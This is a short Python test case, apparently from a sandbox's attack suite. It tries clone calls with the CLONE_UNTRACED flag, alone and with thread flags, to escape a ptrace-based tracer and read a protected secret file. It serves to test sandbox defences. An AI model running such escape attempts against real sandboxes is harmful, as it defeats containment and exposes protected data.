# SPDX-License-Identifier: Apache-2.0
# attack: clone with CLONE_UNTRACED, alone and with each of the flags of a thread
# class: clone
# wins: procs leak
# logged: clone
from kit import *

tried()
path, buf = ctypes.create_string_buffer(os.fsencode(SECRET)), stat_buf()
thief = function(THIEF, *[ctypes.c_long] * 4)
thread = 0x3d0f00
for flags in (0x800000 | 17, 0x800000 | 0x100 | 17, 0x800000 | (thread & ~0x3d0000) | 0x10000 | 0x800, 0x800000 | 0x10f00,
              0x802000 | 0x10f00, 0x2000 | 17, 0x1000000000 | 17):
    thief(flags, page(65536) + 65000, address(path), address(buf))
    time.sleep(0.03)
